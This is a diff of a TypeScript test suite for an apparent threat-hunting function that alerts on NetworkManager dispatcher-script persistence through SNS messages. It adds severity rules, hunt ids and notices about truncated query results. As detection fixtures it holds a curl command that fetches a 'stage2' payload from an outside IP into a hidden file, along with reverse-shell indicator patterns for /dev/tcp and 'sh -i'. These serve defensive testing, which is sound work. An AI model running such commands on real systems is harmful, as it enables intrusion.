@@ -7,7 +7,7 @@ import { SnsNotifier } from '../functions/adapters/sns-notifier';
 import type { AlertReport } from '../functions/core/alert-report';
 import { renderPublishInput } from '../functions/core/render/publish-input';
 import { DROPPED_SCRIPT, REVERSE_SHELL, alertFor, newFindingsReport, summary } from './support/reports';
-import { childFinding, writeFinding } from './support/harness';
+import { childFinding, runFinding, writeFinding } from './support/harness';
 
 const TOPIC = 'arn:aws:sns:eu-west-1:111122223333:nm-dispatcher-hunt-alerts';
 /** As the function renders it: its table and region go into every printed command. */
@@ -29,21 +29,29 @@ const scenarios: Record<string, AlertReport> = {
   'attack-across-both-hunts': newFindingsReport([
     alertFor(DROPPED_SCRIPT, 'path never seen'),
     alertFor(writeFinding('/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', '/usr/bin/sed', { hostNames: ['web-03'], agentIds: ['5f1c2a9e-agent-web-03'] }), 'path known (written by /usr/bin/bash), new writer /usr/bin/sed'),
-    alertFor(REVERSE_SHELL, 'parent never seen'),
-    alertFor(childFinding('/etc/NetworkManager/dispatcher.d/01-ifupdown', '/usr/bin/curl', 'curl -fsS https://203.0.113.66/stage2 -o /tmp/.x'), 'parent known with 2 other children, new child /usr/bin/curl', true),
+    alertFor(runFinding('/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', { hostNames: ['web-03'], agentIds: ['5f1c2a9e-agent-web-03'], context: { command_lines: ['/bin/bash /etc/NetworkManager/dispatcher.d/panix-dispatcher.sh eth0 up'] } }), 'script never seen'),
+    alertFor(REVERSE_SHELL, 'script never seen'),
+    alertFor(childFinding('/etc/NetworkManager/dispatcher.d/01-ifupdown', '/usr/bin/curl', 'curl -fsS https://203.0.113.66/stage2 -o /tmp/.x'), 'script known with 2 other children, new child /usr/bin/curl', true),
   ]),
   'baseline-initialised': {
     kind: 'baseline-initialised',
-    summary: summary({ learning: true, totals: { ...summary().totals, learned: 17, known: 0 } }, [{ learning: true, learned: 9, known: 0 }, { learning: true, learned: 8, known: 0 }]),
+    summary: summary({ learning: true, totals: { ...summary().totals, learned: 17, known: 0 } }, [{ learning: true, learned: 4, known: 0 }, { learning: true, learned: 5, known: 0 }, { learning: true, learned: 8, known: 0 }]),
   },
   'failed-and-truncated-hunts': newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen')], {
     outcome: 'failed',
-    hunts: summary({}, [{ status: 'failed', rows: 0, known: 0, error: 'Elasticsearch denied the query (403): the credentials need the "read" and "view_index_metadata" index privileges on logs-endpoint.events.process-*' }, { truncated: true, rows: 100, new: 1, known: 99 }]).hunts,
+    hunts: summary({}, [{}, { status: 'failed', rows: 0, known: 0, error: 'Elasticsearch denied the query (403): the credentials need the "read" and "view_index_metadata" index privileges on logs-endpoint.events.process-*' }, { truncated: true, rowsCut: 3_512, rows: 10_000, new: 1, known: 9_999 }]).hunts,
     problems: [
-      'dispatcher-child-process failed: Elasticsearch denied the query (403): the credentials need the "read" and "view_index_metadata" index privileges on logs-endpoint.events.process-*',
-      'dispatcher-script-write returned its row limit of 100: rarer rows are listed first, more common ones may be missing. Narrow the lookback or add exclusions.',
+      'dispatcher-script-child failed: Elasticsearch denied the query (403): the credentials need the "read" and "view_index_metadata" index privileges on logs-endpoint.events.process-*',
+      'dispatcher-script-write: the answer was cut at 10,000 of 13,512 rare groups (3,512 not compared tonight; the most recent activity was kept). Many rare rows can be decoys hiding a finding: look for hosts writing or running many distinct dispatcher scripts, then narrow the lookback or add exclusions.',
     ],
   }),
+  'cut-answer-on-a-quiet-night': {
+    kind: 'problems',
+    summary: summary({
+      hunts: summary({}, [{}, {}, { truncated: true, rowsCut: 412, rows: 10_000, known: 10_000 }]).hunts,
+      problems: ['dispatcher-script-write: the answer was cut at 10,000 of 10,412 rare groups (412 not compared tonight; the most recent activity was kept). Many rare rows can be decoys hiding a finding: look for hosts writing or running many distinct dispatcher scripts, then narrow the lookback or add exclusions.'],
+    }),
+  },
 };
 
 describe('the SNS message', () => {
@@ -72,11 +80,38 @@ describe('the SNS message', () => {
     const input = renderPublishInput(scenarios['attack-across-both-hunts']!);
     assert.deepEqual(input.MessageAttributes, {
       kind: { DataType: 'String', StringValue: 'new-findings' },
-      severity: { DataType: 'String', StringValue: 'medium' },
-      huntIds: { DataType: 'String.Array', StringValue: '["dispatcher-script-write","dispatcher-child-process"]' },
-      newFindings: { DataType: 'Number', StringValue: '4' },
+      severity: { DataType: 'String', StringValue: 'high' },
+      huntIds: { DataType: 'String.Array', StringValue: '["dispatcher-script-write","dispatcher-script-run","dispatcher-child-process","dispatcher-script-child"]' },
+      newFindings: { DataType: 'Number', StringValue: '5' },
     });
-    assert.equal(input.Subject, '[nm-dispatcher-hunt] 4 new findings (dispatcher-script-write, dispatcher-child-process)');
+    assert.equal(input.Subject, '[nm-dispatcher-hunt] 5 new findings, high: script-write, script-run, script-child');
+  });
+
+  it('keeps the earlier hunt id in huntIds so that existing filter policies still match', () => {
+    const policy = (ids: string[]) => ids.includes('dispatcher-child-process');
+    const child = renderPublishInput(newFindingsReport([alertFor(REVERSE_SHELL, 'script never seen')]));
+    assert.ok(policy(JSON.parse(child.MessageAttributes.huntIds!.StringValue) as string[]));
+    const write = renderPublishInput(newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen')]));
+    assert.deepEqual(JSON.parse(write.MessageAttributes.huntIds!.StringValue), ['dispatcher-script-write']);
+  });
+
+  it('makes a finding high from its content, names the indicator in every channel and sets the severity attribute', () => {
+    const input = renderPublishInput(newFindingsReport([alertFor(REVERSE_SHELL, 'script never seen')]));
+    assert.equal(input.MessageAttributes.severity!.StringValue, 'high');
+    const bodies = JSON.parse(input.Message) as { default: string; email: string; https: string };
+    assert.match(bodies.email, /severity: high \(reverse shell over \/dev\/tcp or \/dev\/udp; interactive shell \(sh -i\) started by a script\)/);
+    assert.match(JSON.parse(bodies.https).content.description, /severity: high \(reverse shell over \/dev\/tcp/);
+    const item = (JSON.parse(bodies.default) as { newFindings: { items: { severity: string; indicators: { id: string }[] }[] } }).newFindings.items[0]!;
+    assert.equal(item.severity, 'high');
+    assert.deepEqual(item.indicators.map((i) => i.id), ['reverse-shell-dev-tcp', 'interactive-shell']);
+    const plain = renderPublishInput(newFindingsReport([alertFor(DROPPED_SCRIPT, 'path never seen')]));
+    assert.equal(plain.MessageAttributes.severity!.StringValue, 'medium');
+  });
+
+  it('sends a cut answer even on a quiet night, saying how much was cut', () => {
+    const input = renderPublishInput(scenarios['cut-answer-on-a-quiet-night']!);
+    assert.equal(input.MessageAttributes.kind!.StringValue, 'problems');
+    assert.match(JSON.parse(input.Message).email, /cut at 10,000 of 10,412 rare groups/);
   });
 
   it('says why each finding is new and gives a ready osquery query for its script', () => {
